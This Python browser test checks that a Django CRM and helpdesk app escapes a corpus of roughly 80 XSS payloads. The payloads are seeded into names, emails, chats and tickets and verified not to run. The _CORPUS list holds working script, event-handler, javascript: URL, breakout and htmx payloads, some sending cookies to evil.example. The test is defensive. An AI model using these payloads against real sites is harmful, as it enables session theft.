"""An XSS corpus rendered on every page that shows untrusted text, in the system Chromium.

Names (contacts, leads, accounts, team, queue, tenant, agent), activity summaries, chat messages, ticket
subjects, email subjects, sender names and HTML bodies are all set to hostile strings. Each payload does
something observable when it runs (``window.__xss = <n>``, ``alert(<n>)``, a request to ``evil.example``,
a navigation); each carries its own number, so a failure names the payload. Every surface is visited as an
admin (and the Django admin as a superuser) with five detectors:

- dialogs (``alert`` / ``confirm`` / ``prompt``) are recorded and dismissed;
- every request whose host is not 127.0.0.1 / localhost is recorded and aborted (nothing leaves the box);
- main-frame navigations to anything but the URL we opened are recorded, and so are popups;
- ``window.__xss`` is read in the page and in every frame, after inline handlers were given their chance
  (real hovers and clicks on rows, badges and modals, and synthetic mouse / focus / load / error events
  dispatched to every element);
- Content-Security-Policy violations are recorded in every document: the site's CSP would *block* many
  payloads that an escaping bug let through, and a blocked script, frame, object, base or form target is
  a finding as well.

The detectors prove themselves first (a canary of each kind must be caught), and each payload must be
visible as text on the main surfaces: a page that rendered nothing, stripped the payloads or escaped them
twice would fail, not pass.

Real-world bug classes this guards against (see /work/shared/reference/reliability.md, section 2.2):
stored XSS through email subjects in helpdesks (Zammad CVE-2018-1000154, zammad#1869); ``javascript:``
links in CRM content (EspoCRM #1039, CVE-2019-13643, CVE-2019-14350); unescaped email bodies in templates
(FreeScout CVE-2026-32754, whose Django analogue is ``|safe`` / ``mark_safe``); ``<base href>`` in a stored
email body (Odoo #33135); CSS ``@import`` in HTML mail (Zimbra CVE-2025-66376); ``ontoggle`` on
``<details>`` (Zimbra CVE-2025-27915); unverified ``<iframe>`` in inputs (SuiteCRM CVE-2024-36417).
"""

from __future__ import annotations

import contextlib
from dataclasses import dataclass, field
from datetime import timedelta
from urllib.parse import urljoin, urlsplit

import pytest
from django.utils import timezone

from activities.models import Activity, ActivitySource, ActivityType, Direction
from activities.services import activity_log_many
from contactcenter.models import CHANNEL_ACTIVITY_TYPE, Channel, ClosedInteraction
from crm.models import Role
from tests.conftest import PASSWORD
from tests.factories import (
    AccountFactory,
    ClosedInteractionFactory,
    ContactFactory,
    EmailLocationFactory,
    IncomingEmailFactory,
    InteractionFactory,
    InteractionMessageFactory,
    LeadFactory,
    MailboxFactory,
    MembershipFactory,
    QueueFactory,
    TeamFactory,
    TenantFactory,
    TicketFactory,
    UserFactory,
)

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ADMIN_EMAIL = "xss.admin@example.test"
EVIL = "evil.example"  # never resolved: every request to it is aborted by the route below
LOCAL_HOSTS = {"127.0.0.1", "localhost"}

# "§" becomes the payload's own number (100, 101, ...): the value it writes to window.__xss, the argument
# of its alert(), the path it fetches. Raw NUL bytes cannot be stored at all (PostgreSQL refuses U+0000 in
# text; Django's forms reject it too), so the "null byte" entries carry it as %00, &#0; and \u0000, and
# other control characters (\x01, \x0c, tab, newline) are stored raw.
_CORPUS = [
    # plain and mixed-case <script>
    "<script>window.__xss=§</script>",
    "<script>alert(§)</script>",
    "<SCRIPT>window.__xss=§</SCRIPT>",
    "<ScRiPt>alert(§)</sCrIpT>",
    f"<script src=//{EVIL}/§.js></script>",
    f"<script>fetch('//{EVIL}/§?c='+document.cookie)</script>",
    f"<script>location='//{EVIL}/nav§'</script>",
    "<scr<script>ipt>window.__xss=§</script>",
    # event handlers
    "<img src=x onerror=window.__xss=§>",
    '<img src=x onerror="alert(§)">',
    "<IMG SRC=x OnErRoR=alert(§)>",
    f"<img src=x onerror=fetch('//{EVIL}/§')>",
    f"<img src=//{EVIL}/§.gif>",
    "<img/src=x/onerror=window.__xss=§>",
    "<img src=x\nonerror=alert(§)>",
    "<img src=x\x0conerror=window.__xss=§>",
    "<img src=x onerror=&#97;lert(§)>",
    f"<img src=x onerror=import('//{EVIL}/§.mjs')>",
    f"<img src=x onerror=top.location='//{EVIL}/nav§'>",
    "<svg onload=window.__xss=§>",
    "<svg><script>window.__xss=§</script></svg>",
    "<svg><animate onbegin=alert(§) attributeName=x dur=1s>",
    "<details open ontoggle=window.__xss=§>",
    "<body onload=alert(§)>",
    "<input autofocus onfocus=window.__xss=§>",
    "<video><source onerror=window.__xss=§></video>",
    "<marquee onstart=alert(§)>m</marquee>",
    '<xss onmouseover="window.__xss=§" style="display:block;height:100%">hover</xss>',
    '<a href=# onclick="window.__xss=§">click me</a>',
    # javascript: and data: URLs
    '<a href="javascript:window.__xss=§">click</a>',
    '<a href="JaVaScRiPt:alert(§)">x</a>',
    '<a href=" javascript:alert(§)">leading space</a>',
    '<a href="jav&#x09;ascript:window.__xss=§">tab entity</a>',
    "javascript:window.__xss=§",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>data §</a>",
    '<svg><a xlink:href="javascript:alert(§)"><text y=20>x</text></a></svg>',
    '<form><button formaction="javascript:window.__xss=§">go</button></form>',
    # attribute and element breakouts
    '" onmouseover="window.__xss=§" x="',
    "' onmouseover='alert(§)' x='",
    '" autofocus onfocus="window.__xss=§',
    "'><script>window.__xss=§</script>",
    '"><script>alert(§)</script>',
    '"><img src=x onerror=window.__xss=§>',
    "</textarea><script>window.__xss=§</script>",
    "</title><script>window.__xss=§</script>",
    "</script><script>window.__xss=§</script>",
    "</style><script>alert(§)</script>",
    '"}]</script><script>window.__xss=§</script>',
    '<!--<img src="--><img src=x onerror=window.__xss=§//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(§)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=§>",
    # frames, objects and document-level elements
    '<iframe srcdoc="<script>parent.__xss=§</script>"></iframe>',
    '<iframe src="javascript:parent.__xss=§"></iframe>',
    f"<iframe src=//{EVIL}/§></iframe>",
    f"<object data=//{EVIL}/§.swf></object>",
    "<object data=javascript:window.__xss=§></object>",
    f"<embed src=//{EVIL}/§.swf>",
    f'<meta http-equiv="refresh" content="0;url=//{EVIL}/nav§">',
    f"<base href=//{EVIL}/§/>",
    f"<form action=//{EVIL}/§><button>Go</button></form>",
    f"<link rel=stylesheet href=//{EVIL}/§.css>",
    # CSS
    '<div style="width:expression(alert(§))">css</div>',
    f'<div style="background:url(//{EVIL}/§.png)">bg</div>',
    f"<style>@import '//{EVIL}/§.css';</style>",
    # htmx attributes (the app runs htmx: a live hx-* attribute would be as bad as a script)
    f'<div hx-get="//{EVIL}/§" hx-trigger="load">htmx</div>',
    f'<button hx-post="//{EVIL}/§" hx-trigger="load">post</button>',
    '<div hx-on::load="window.__xss=§">hx-on</div>',
    '<img src=x hx-on:error="window.__xss=§">',
    # template-ish (Django / Jinja / JS template literals must not evaluate stored text)
    "{{ 7*§ }}",
    "{% debug %}{{ request.user.password }}§",
    "${alert(§)}#{7*7}",
    # entity / percent encoded and control characters ("null bytes")
    "&lt;script&gt;window.__xss=§&lt;/script&gt;",
    "&#60;img src=x onerror=alert(§)&#62;",
    "%3Cscript%3Ewindow.__xss%3D§%3C/script%3E",
    "<img src=x onerror=alert(§)%00>",
    "<scr&#0;ipt>alert(§)</scr&#0;ipt>",
    "<img src=x onerror=\\u0000alert(§)>",
    "\x01<script>window.__xss=§</script>",
    "\u2028<script>window.__xss=§</script>\u2029",
    # a polyglot
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(§)//'>",
]
PAYLOADS = [p.replace("§", str(100 + i)) for i, p in enumerate(_CORPUS)]
assert len(PAYLOADS) >= 50 and len(set(PAYLOADS)) == len(PAYLOADS)
assert all(len(p) <= 150 for p in PAYLOADS)  # fits every field we put them in (User.first_name: 150)


# Where some single-valued fields get their payload.
def _payload(prefix: str) -> str:
    return next(p for p in PAYLOADS if p.startswith(prefix))


TENANT_NAME = _payload("</title>")
TEAM_NAME = _payload('"><img')
QUEUE_NAME = _payload('<img src=x onerror="alert(')
AGENT_FIRST, AGENT_LAST = _payload('" onmouseover='), _payload("' onmouseover=")
TEXTAREA_BREAKOUT = _payload("</textarea>")

# Installed in every document before its own scripts: records Content-Security-Policy violations. The site
# sends a CSP without inline scripts, so an escaping bug would often be *blocked* rather than *run*: a
# blocked script, frame, object, base or form target is reported here as a finding too.
CSP_LISTENER_JS = """document.addEventListener('securitypolicyviolation', (e) => {
  (window.__csp = window.__csp || []).push(e.effectiveDirective + ' ' + (e.blockedURI || ''));
});"""

# Dispatched to every element after a page settles: an injected inline handler would run.
FIRE_EVENTS_JS = """() => {
  const types = ['mouseover', 'mouseenter', 'mousemove', 'mouseout', 'pointerover', 'pointerenter',
                 'focus', 'focusin', 'blur', 'load', 'error', 'toggle', 'animationstart', 'begin'];
  let n = 0;
  for (const el of document.querySelectorAll('body *')) {
    for (const t of types) { try { el.dispatchEvent(new Event(t)); n++; } catch (e) {} }
  }
  return n;
}"""


def _suspicious_violation(violation: str, frame_url: str) -> bool:
    """A CSP violation that only an injected payload would cause. Style violations are the app's own
    business (inline styles are being moved to static css); images blocked in the sanitised email body are
    its design ("remote images blocked unless asked for")."""
    directive, _, blocked = violation.partition(" ")
    if directive.startswith(("style-src", "font-src")):
        return EVIL in blocked
    if directive.startswith("img-src"):
        return EVIL in blocked and "/body/" not in urlsplit(frame_url).path
    return True


def _norm(text: str) -> str:
    return " ".join((text or "").split())


@dataclass
class Corpus:
    tenant: object
    hub_contact: object
    hub_lead: object
    hub_account: object
    contacts: list
    notes: list
    emails: list
    corpus_email: object
    hub_closed: object
    live_chat: object
    tickets: list


def _bulk(factory, rows: list[dict]) -> list:
    """Build with the factory, insert in one statement (PostgreSQL returns the ids)."""
    return factory._meta.model.objects.bulk_create([factory.build(**row) for row in rows])


def _seed() -> Corpus:
    """Every payload in every injection point: one account, contact, lead, note, email, closed interaction,
    chat message and ticket per payload. The first contact / lead / account (the hub) also carries every
    email and the big conversation, so its timelines page through all of them. Bulk inserts keep it fast;
    activities go through ``activity_log_many``, the service the mail sync writes with."""
    now = timezone.now()
    n = len(PAYLOADS)
    tenant = TenantFactory(name=TENANT_NAME)
    team = TeamFactory(tenant=tenant, name=TEAM_NAME)
    admin = UserFactory(
        email=ADMIN_EMAIL, username=ADMIN_EMAIL, first_name="Ada", last_name="Admin", is_staff=True
    )
    admin.is_superuser = True
    admin.save(update_fields=["is_superuser"])
    MembershipFactory(tenant=tenant, user=admin, role=Role.ADMIN, teams=[team], can_manage_email=True)
    agent = UserFactory(first_name=AGENT_FIRST, last_name=AGENT_LAST)
    MembershipFactory(tenant=tenant, user=agent, role=Role.AGENT, teams=[team])
    queue = QueueFactory(tenant=tenant, name=QUEUE_NAME, channel=Channel.WEBCHAT, team=team)
    mailbox = MailboxFactory(tenant=tenant, owner=admin, team=team)
    owned = {"tenant": tenant, "team": team, "owner": agent}

    accounts = _bulk(AccountFactory, [{**owned, "name": p} for p in PAYLOADS])
    contacts = _bulk(
        ContactFactory,
        [
            {**owned, "name": p, "account": accounts[i], "emails": [f"c{i}@customer.example"]}
            for i, p in enumerate(PAYLOADS)
        ],
    )
    leads = _bulk(LeadFactory, [{**owned, "name": p, "company": p} for p in PAYLOADS])
    hub_contact, hub_lead, hub_account = contacts[0], leads[0], accounts[0]

    # Subject, sender name and text of email i are payload i; every other email also has it as its HTML
    # body (the sanitised iframe), the others show the text body. One more email carries the whole corpus
    # as its HTML body.
    email_rows = [
        {"subject": p, "sender_name": p, "body_text": p, "body_html": p if i % 2 == 0 else ""}
        for i, p in enumerate(PAYLOADS)
    ]
    email_rows.append(
        {
            "subject": "The whole corpus in one HTML body",
            "sender_name": PAYLOADS[-1],
            "body_text": "see the HTML part",
            "body_html": "<p>Corpus</p>\n" + "\n<hr>\n".join(PAYLOADS),
        }
    )
    for i, row in enumerate(email_rows):
        row.update(
            tenant=tenant,
            message_key=f"xss-{i}@customer.example",
            in_reply_to=row["subject"],
            sender=f"c{i}@customer.example",
            recipients=[ADMIN_EMAIL],
            snippet=row["body_text"][:300],
            received_at=now - timedelta(minutes=1, seconds=i) if i < n else now - timedelta(hours=1),
        )
    emails = _bulk(IncomingEmailFactory, email_rows)
    _bulk(EmailLocationFactory, [{"tenant": tenant, "email": e, "mailbox": mailbox} for e in emails])

    notes = [
        {
            "type": ActivityType.NOTE,
            "actor": agent,
            "team": team,
            "contact": contacts[i],
            "lead": leads[i],
            "summary": p,
            "body": p,
            "dedup_key": f"xss-note:{i}",
            "occurred_at": now - timedelta(hours=2, minutes=i),
        }
        for i, p in enumerate(PAYLOADS)
    ]
    email_activities = [
        {
            "type": ActivityType.EMAIL,
            "source": ActivitySource.INTERACTION,
            "direction": Direction.INBOUND,
            "agent": admin,
            "team": team,
            "contact": hub_contact,
            "lead": hub_lead,
            "summary": e.subject,
            "first_message": e.snippet,
            "source_object": e,
            "dedup_key": f"email:{e.pk}",
            "occurred_at": e.received_at,
        }
        for e in emails
    ]
    activity_log_many(tenant=tenant, entries=notes + email_activities)
    note_ids = dict(
        Activity.objects.for_tenant(tenant)
        .filter(dedup_key__startswith="xss-note:")
        .values_list("dedup_key", "pk")
    )

    # One closed interaction per payload (summary, first message, external id); the hub's holds the whole
    # conversation, one message (and author name) per payload; so does an open web chat.
    started = [now - timedelta(hours=3, minutes=i) for i in range(n)]
    interactions = _bulk(
        InteractionFactory,
        [
            {
                "tenant": tenant,
                "external_id": p,
                "queue": queue,
                "channel": queue.channel,
                "team": team,
                "agent": agent,
                "contact": contacts[i],
                "status": "closed",
                "started_at": started[i],
            }
            for i, p in enumerate(PAYLOADS)
        ],
    )
    closed_rows = [
        ClosedInteractionFactory.build(
            tenant=tenant,
            interaction=interactions[i],
            team=team,
            agent=agent,
            contact=contacts[i],
            account=accounts[i],
            summary=p,
            first_message=p,
            message_count=n if i == 0 else 0,
            started_at=started[i],
            closed_at=started[i] + timedelta(minutes=1),
        )
        for i, p in enumerate(PAYLOADS)
    ]
    for row in closed_rows:
        row.type = CHANNEL_ACTIVITY_TYPE[row.channel]  # what save() would set; bulk_create skips save()
    closed = ClosedInteraction.objects.bulk_create(closed_rows)
    hub_closed = closed[0]
    live_chat = InteractionFactory(
        tenant=tenant, queue=queue, team=team, agent=agent, contact=contacts[1], status="open"
    )
    _bulk(
        InteractionMessageFactory,
        [
            {
                "tenant": tenant,
                "interaction": conversation,
                "direction": "inbound" if i % 2 else "outbound",
                "author_name": PAYLOADS[(i + 1) % n],
                "text": p,
                "sent_at": started[0] + timedelta(seconds=i),
            }
            for conversation in (interactions[0], live_chat)
            for i, p in enumerate(PAYLOADS)
        ],
    )
    tickets = _bulk(
        TicketFactory,
        [
            {
                "tenant": tenant,
                "subject": p,
                "description": p,
                "contact": contacts[i],
                "interaction": interactions[i],
                "assignee": agent,
                "team": team,
            }
            for i, p in enumerate(PAYLOADS)
        ],
    )
    return Corpus(
        tenant=tenant,
        hub_contact=hub_contact,
        hub_lead=hub_lead,
        hub_account=hub_account,
        contacts=contacts,
        notes=[
            Activity.objects.get(pk=note_ids[f"xss-note:{i}"]) for i in (0, PAYLOADS.index(TEXTAREA_BREAKOUT))
        ],
        emails=emails[:n],
        corpus_email=emails[n],
        hub_closed=hub_closed,
        live_chat=live_chat,
        tickets=tickets,
    )


@dataclass
class Observer:
    """Records what a payload would do if it ran; ``check(label)`` turns it into findings."""

    page: object
    base: str
    dialogs: list = field(default_factory=list)
    requests: list = field(default_factory=list)
    navigations: list = field(default_factory=list)
    popups: list = field(default_factory=list)
    allowed: set = field(default_factory=set)
    findings: list = field(default_factory=list)
    missing: dict = field(default_factory=dict)
    surfaces: list = field(default_factory=list)

    def install(self) -> None:
        self.page.context.add_init_script(CSP_LISTENER_JS)
        self.page.on("dialog", self._on_dialog)
        self.page.on("framenavigated", self._on_navigated)
        self.page.context.on("page", lambda popup: self.popups.append(popup.url))
        self.page.context.route("**/*", self._on_route)

    def _on_dialog(self, dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def _on_navigated(self, frame) -> None:
        if frame == self.page.main_frame:
            self.navigations.append(frame.url)

    def _on_route(self, route) -> None:
        host = urlsplit(route.request.url).hostname or ""
        if host in LOCAL_HOSTS:
            route.continue_()
        else:
            self.requests.append(route.request.url)
            route.abort()

    def goto(self, path: str):
        url = urljoin(self.page.url if path.startswith("?") else self.base, path)
        self.allowed.add(url)
        return self.page.goto(url)

    def frame_flags(self) -> list[str]:
        flags = []
        for frame in self.page.frames:
            try:
                value, violations = frame.evaluate(
                    "() => [window.__xss === undefined ? null : String(window.__xss), window.__csp || []]"
                )
            except Exception as exc:  # noqa: BLE001 - a frame we cannot read is a finding, not a crash
                flags.append(f"frame {frame.url!r} could not be inspected: {exc}")
                continue
            if value is not None:
                flags.append(f"window.__xss={value} in frame {frame.url!r}")
            flags += [
                f"CSP violation {v!r} in frame {frame.url!r}"
                for v in violations
                if _suspicious_violation(v, frame.url)
            ]
        return flags

    def check(self, label: str, *, expect=(), within: str = "body", settle_ms: int = 50) -> str:
        """Give delayed payloads a moment, fire inline handlers, then record what happened; the texts in
        ``expect`` must be visible (as text) inside ``within``. Returns the normalised text."""
        self.surfaces.append(label)
        self.page.wait_for_timeout(settle_ms)
        for frame in self.page.frames:
            # a sandboxed frame without scripts may refuse: then nothing in it can fire either
            with contextlib.suppress(Exception):
                frame.evaluate(FIRE_EVENTS_JS)
        self.page.wait_for_timeout(50)
        found = self.frame_flags()
        found += [f"dialog {d}" for d in self.dialogs]
        found += [f"request to another host: {u}" for u in self.requests]
        found += [f"popup: {u}" for u in self.popups]
        for url in self.navigations:
            if url != "about:blank" and url not in self.allowed:
                found.append(f"navigation to {url}")
        self.findings += [f"{label}: {f}" for f in found]
        self.dialogs.clear()
        self.requests.clear()
        self.popups.clear()
        self.navigations.clear()
        text = _norm(self.page.locator(within).first.text_content())
        absent = [p for p in expect if _norm(p) not in text]
        if absent:
            self.missing[label] = absent
        return text


def _open_timeline(page, obs: Observer, row_selector: str, label: str, *, load_all: bool) -> str:
    """Click the row's activity badge (htmx modal), then (``load_all``) "Load older" until the end."""
    row = page.locator(row_selector)
    row.hover()
    row.get_by_test_id("activity-badge").click()
    modal = page.get_by_test_id("timeline-modal")
    modal.wait_for(state="visible")
    entries = modal.get_by_test_id("timeline-entry")
    entries.first.wait_for()
    while load_all and modal.get_by_test_id("timeline-older").count():
        shown = entries.count()
        modal.get_by_test_id("timeline-older").click()
        page.wait_for_function(
            "n => document.querySelectorAll('#timeline-modal [data-testid=timeline-entry]').length > n",
            arg=shown,
        )
    entries.first.hover()
    return obs.check(label, within="#timeline-modal")


def test_xss_corpus_never_executes_on_any_surface(page, live_server, browser_login):
    # given every payload in every injection point, and a superuser who is an admin of the tenant
    data = _seed()
    base = live_server.url
    browser_login(page, live_server, ADMIN_EMAIL, PASSWORD)
    obs = Observer(page=page, base=base)
    obs.install()

    # the detectors work: a canary of each kind is caught, so silence below means something. The popup,
    # request and CSP canaries use a second page of the same context: the site's CSP refuses requests to
    # other hosts before they are made, and the page fixture may fail a test on CSP violations of its page.
    second = page.context.new_page()
    second.evaluate(f"() => fetch('http://{EVIL}/canary').catch(() => null)")
    has_csp = bool(second.goto(f"{base}/").headers.get("content-security-policy"))
    second.evaluate(
        "() => document.body.append(Object.assign(document.createElement('script'), {text: '1'}))"
    )
    second_csp = second.evaluate("() => window.__csp || []")
    second.close()
    obs.goto("/")
    page.evaluate("() => { window.__xss = 'canary'; }")
    page.evaluate("() => alert('canary')")
    page.evaluate("() => history.pushState(null, '', '/canary-navigation/')")
    obs.check("canary")
    canary = " | ".join(obs.findings)
    assert "window.__xss=canary" in canary
    assert f"request to another host: http://{EVIL}/canary" in canary
    assert "popup: about:blank" in canary
    assert "dialog alert: canary" in canary
    assert "navigation to " in canary and "/canary-navigation/" in canary
    assert not has_csp or any(_suspicious_violation(v, base) for v in second_csp), second_csp
    obs.findings.clear()
    obs.surfaces.clear()

    # the activity grid (notes: summaries and every name column; emails: subjects and snippets; chats)
    obs.goto("/activities/?type=note&per_page=100")
    page.get_by_test_id("grid-row").nth(3).hover()
    obs.check("activity grid (notes)", expect=PAYLOADS + [AGENT_FIRST, AGENT_LAST])
    obs.goto("/activities/?type=email&per_page=100")
    obs.check("activity grid (emails)", expect=PAYLOADS)
    obs.goto("/activities/?type=chat&per_page=100")
    obs.check("activity grid (chats)", expect=PAYLOADS)
    obs.goto("/")
    obs.check("home")
    assert _norm(TENANT_NAME) in _norm(page.title())

    # the entity grids (two pages of 50 each) and, from the hub's badge, its timeline as an htmx modal
    for kind, hub in (("contact", data.hub_contact), ("lead", data.hub_lead), ("account", data.hub_account)):
        seen = ""
        for page_no in (1, 2):
            obs.goto(f"/{kind}s/?page={page_no}")
            page.get_by_test_id("grid-row").first.hover()
            seen += obs.check(f"{kind} grid page {page_no}")
            hub_row = f'[data-testid="grid-row"][data-pk="{hub.pk}"]'
            if page.locator(hub_row).count():
                load_all = kind == "contact"  # the three hubs share the emails: page through them once
                modal = _open_timeline(page, obs, hub_row, f"{kind} timeline modal", load_all=load_all)
                expected = PAYLOADS if load_all else PAYLOADS[:10]  # every email subject / the newest
                missing = [p for p in expected if _norm(p) not in modal]
                if missing:
                    obs.missing[f"{kind} timeline modal"] = missing
        missing = [p for p in PAYLOADS if _norm(p) not in seen]
        if missing:
            obs.missing[f"{kind} grid"] = missing
        assert f"{kind} timeline modal" in obs.surfaces, f"the {kind} hub row was on neither grid page"

    # full-page timelines, detail pages and analytics of the hub
    newest = PAYLOADS[:10]  # the hub's ten newest entries are emails 0..9
    for kind, hub in (("contact", data.hub_contact), ("lead", data.hub_lead), ("account", data.hub_account)):
        obs.goto(f"/{kind}s/{hub.pk}/timeline/")
        obs.check(f"{kind} timeline page", expect=newest)
        obs.goto(f"/{kind}s/{hub.pk}/")
        obs.check(f"{kind} detail", expect=[hub.name])
        assert _norm(TENANT_NAME) in _norm(page.title())
    obs.goto("/analytics/?range=30")
    obs.check("analytics dashboard", expect=[TEAM_NAME, AGENT_FIRST, AGENT_LAST, data.hub_contact.name])
    obs.goto(f"/contacts/{data.hub_contact.pk}/analytics/")
    obs.check("contact analytics", expect=[data.hub_contact.name])

    # the contact center: interactions grid (+ the viewer modal), viewer page, live chats, tickets
    obs.goto("/interactions/")
    first_page = obs.check("interactions grid", expect=[QUEUE_NAME, AGENT_FIRST])
    page.get_by_test_id("interaction-row").first.locator("a").click()
    page.locator("[data-cc-modal]").wait_for(state="visible")
    page.get_by_test_id("viewer-search").fill("script")
    obs.check("message viewer modal", expect=PAYLOADS, within="[data-cc-modal]")
    obs.goto(page.get_by_test_id("next-page").get_attribute("href"))
    second_page = obs.check("interactions grid page 2")
    missing = [p for p in PAYLOADS if _norm(p) not in first_page + second_page]
    if missing:
        obs.missing["interactions grid"] = missing
    obs.goto(f"/interactions/{data.hub_closed.pk}/messages/")
    obs.check("message viewer page", expect=PAYLOADS + [QUEUE_NAME, data.hub_contact.name])
    obs.goto("/interactions/open/")
    obs.check("open interactions", expect=[data.contacts[1].name, QUEUE_NAME])
    obs.goto("/live-chats/")
    obs.check("live chats", expect=[data.contacts[1].name])
    obs.goto(f"/live-chats/{data.live_chat.pk}/")
    page.get_by_test_id("live-message-inbound").first.hover()
    obs.check("live chat", expect=PAYLOADS)
    obs.goto("/tickets/")
    obs.check("tickets", expect=PAYLOADS)
    for ticket in (data.tickets[0], data.tickets[PAYLOADS.index(TEXTAREA_BREAKOUT)]):
        obs.goto(f"/tickets/{ticket.pk}/")
        obs.check(f"ticket {ticket.pk}", expect=[ticket.subject])

    # emails: subject and sender name on the detail page, the body as text or in the sanitised, sandboxed
    # iframe; then the whole corpus as one HTML body, framed and opened directly
    for i, email in list(enumerate(data.emails))[::12]:  # a sample: every email is on the grids above
        obs.goto(f"/emails/{email.pk}/")
        obs.check(f"email {i}", expect=[email.subject, email.sender_name], settle_ms=30)
        if email.body_html:
            assert page.get_by_test_id("email-frame").count() == 1
    obs.goto(f"/emails/{data.corpus_email.pk}/")
    page.get_by_test_id("email-frame").hover()
    obs.check("corpus email", expect=[data.corpus_email.sender_name])
    assert len(page.frames) == 2  # the page and its one sandboxed body: no frame from the payloads
    body = page.frames[1]
    assert "Corpus" in body.locator("body").text_content()
    # the sanitiser keeps remote images (nh3's default); the body's own CSP refuses them, so the request
    # detector saw none (a scriptless sandboxed document runs no listener: its CSP log stays empty)
    assert body.locator(f"img[src*='{EVIL}']").count() > 0
    obs.goto(f"/emails/{data.corpus_email.pk}/body/")  # the frame's URL opened on its own
    obs.check("corpus email body opened directly")

    # the Django admin, as a superuser: changelists and change pages (values round-trip into inputs)
    obs.goto("/admin/crm/contact/")
    obs.check("admin contacts", expect=PAYLOADS)
    obs.goto(f"/admin/crm/contact/{data.hub_contact.pk}/change/")
    obs.check("admin contact change")
    assert page.input_value("#id_name") == data.hub_contact.name
    obs.goto("/admin/activities/activity/?type__exact=note")
    obs.check("admin activities", expect=PAYLOADS)
    note = data.notes[1]  # the </textarea> breakout
    obs.goto(f"/admin/activities/activity/{note.pk}/change/")
    obs.check("admin activity change")
    assert page.input_value("#id_summary") == note.summary
    assert page.input_value("#id_body") == note.body
    obs.goto("/admin/emailsync/incomingemail/")
    obs.check("admin emails", expect=PAYLOADS)
    obs.goto(f"/admin/emailsync/incomingemail/{data.corpus_email.pk}/change/")
    obs.check("admin email change")
    assert page.input_value("#id_body_html") == data.corpus_email.body_html
    obs.goto("/admin/contactcenter/ticket/")
    obs.check("admin tickets", expect=PAYLOADS)

    # then nothing ran, nothing navigated, nothing left the machine, and the payloads were on screen
    assert obs.findings == [], "\n".join(obs.findings)
    assert obs.missing == {}, "\n".join(f"{k}: {v}" for k, v in obs.missing.items())
    assert not [e for e in page.console_errors if e.startswith("pageerror")], page.console_errors
    assert len(obs.surfaces) >= 35
